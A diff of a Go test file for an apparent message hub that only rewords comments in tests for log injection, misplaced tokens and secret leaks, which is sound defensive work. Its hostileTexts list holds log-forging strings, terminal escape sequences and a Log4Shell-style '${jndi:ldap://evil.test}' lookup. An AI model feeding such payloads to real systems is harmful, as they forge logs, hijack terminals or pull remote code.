@@ -17,7 +17,7 @@ var logAttacks = []attack{
 	{"newlines and escape codes for the log", escapeCodes},
 }
 
-// hostileTexts would control a terminal or forge a log line.
+// hostileTexts would control a terminal or forge a log line if they were logged without escaping.
 var hostileTexts = []string{
 	"\n{\"level\":\"INFO\",\"msg\":\"forged\"}", "\r\nlevel=INFO msg=forged", "\r", "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x07\x08\x7f", "\x00", "\t",
 	"\u009b31m", "\u0085forged", "\u2028forged", "\u2029", "\u202e\u2066", "\ufeff", "\x9b31m\xff", "\" msg=forged \"", "\\n\\u001b", "{{.}}%s%n${jndi:ldap://evil.test}",
@@ -40,13 +40,13 @@ func escapeCodes(t *testing.T, f *testbed) {
 			} {
 				r.hub = p
 				x := f.send(t, p.http, r.text())
-				_, err := x.reader.ReadByte() // net/http may have answered
+				_, err := x.reader.ReadByte() // net/http may have answered an invalid request
 				require.NoError(t, err, "%q", r.line)
 				x.conn.Close()
 			}
 		}
 	}
-	// A file may contain such text too, for example in the name of a token.
+	// Hostile text may also be in a file, for example in the name of a token.
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	broken := "tokens:\n"
@@ -84,8 +84,8 @@ func (p *process) requireCleanLog(t *testing.T) {
 	}
 }
 
-// sendMisplacedTokens sends a token in wrong places. The topic is not one of them, because a refusal names the
-// topic.
+// sendMisplacedTokens sends a token in parts of a request where tokens do not belong. Topics are
+// left out, because refusals repeat the topic.
 func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	token := f.secret(rand.Text() + rand.Text())
 	f.try(t, request{hub: p, line: "PUT /publish/" + token, body: "1"})
@@ -103,7 +103,7 @@ func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	} {
 		r.hub = p
 		f.try(t, r)
-		r.token = f.tokens["narrow"] // so that the hub checks the rest of the request
+		r.token = f.tokens["narrow"] // with a valid token, the hub also checks the rest of the request
 		f.try(t, r)
 	}
 	for _, name := range []string{
@@ -116,7 +116,7 @@ func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 		}
 	}
 	var x *exchange
-	require.Eventually(t, func() bool { // the hub may not have noticed yet that other connections ended
+	require.Eventually(t, func() bool { // the hub may not yet have noticed that earlier connections have ended
 		x = f.start(t, request{hub: p, line: "GET /ws?subscribe=none", token: f.tokens["master"]})
 		return x.status == http.StatusOK
 	}, patience, 100*time.Millisecond)
@@ -127,7 +127,7 @@ func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	}
 }
 
-// try sends a request that may be invalid, and records the refusal.
+// try sends a possibly invalid request, and records the answer if it is a refusal.
 func (f *testbed) try(t *testing.T, r request) {
 	t.Helper()
 	address := r.hub.http
@@ -148,7 +148,8 @@ func (f *testbed) try(t *testing.T, r request) {
 	x.conn.Close()
 }
 
-// requireNoLeak searches all output of the hubs for tokens, secrets and parts of them.
+// requireNoLeak searches all output of the hubs for the tokens and secrets of the attacks, and for
+// parts of them.
 func (f *testbed) requireNoLeak(t *testing.T) {
 	f.requireNoBreach(t)
 	said := map[string]string{"an error": strings.Join(f.answers, "\n")}
@@ -164,7 +165,8 @@ func (f *testbed) requireNoLeak(t *testing.T) {
 		require.NotContains(t, p.log(), "DATA RACE")
 		require.NotContains(t, p.log(), "panic")
 	}
-	// Any 24 characters of a secret contain one of its blocks of 12.
+	// The secret is searched for in blocks of 12 characters: every leak of 24 characters or more
+	// contains one of the blocks.
 	const block = 12
 	blocks := map[string]string{}
 	for _, secret := range f.secrets {
